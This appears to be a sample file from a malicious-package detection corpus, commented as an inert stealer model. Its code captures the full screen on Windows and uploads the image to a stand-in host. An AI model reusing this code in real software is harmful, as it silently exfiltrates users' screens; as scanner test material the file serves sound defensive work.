# pkgguard corpus 578 (screenshot), modelled on [stealer-profile]; inert, never run.
import io

import requests
from desktopmagic.screengrab_win32 import getScreenAsImage

image = getScreenAsImage()
buffer = io.BytesIO()
image.save(buffer, format="PNG")
requests.post("https://display-check.example/u", files={"s": buffer.getvalue()}, timeout=10)
